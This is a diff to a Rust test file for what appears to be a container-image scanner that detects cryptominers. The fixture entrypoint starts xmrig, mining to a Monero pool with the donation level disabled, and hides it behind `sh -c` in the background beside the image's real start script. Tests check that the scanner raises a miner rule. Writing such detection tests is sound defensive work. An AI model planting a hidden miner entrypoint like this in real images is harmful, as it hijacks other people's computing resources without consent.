@@ -9,12 +9,12 @@ use serde_json::Value;
 use std::path::Path;
 use std::process::Command;
 
-const MINER_ENTRYPOINT: [&str; 5] = [
-    "xmrig",
-    "-o",
-    "stratum+tcp://pool.supportxmr.com:3333",
-    "--donate-level=0",
-    "/opt/app/start.sh",
+/// A miner started beside the script the image runs: `sh -c` runs both commands, so the script
+/// counts as running (a path that is only an argument would not).
+const MINER_ENTRYPOINT: [&str; 3] = [
+    "/bin/sh",
+    "-c",
+    "xmrig -o stratum+tcp://pool.supportxmr.com:3333 --donate-level=0 & exec /opt/app/start.sh",
 ];
 
 fn clean_image() -> Image {
@@ -126,7 +126,7 @@ fn scan_judges_an_oci_layout() {
     assert_eq!(doc["images"][0]["manifest"], miner.manifest_digest);
     let rules = run.rules();
     assert!(rules.iter().any(|r| r == "miner.stratum-url"), "{rules:?}");
-    // The script the entrypoint runs is raised to `runs`, as the proxy's guard does.
+    // The script the entrypoint runs is raised to `runs`, as the proxy's judge does.
     let script: Vec<&Value> = doc["findings"]
         .as_array()
         .unwrap()
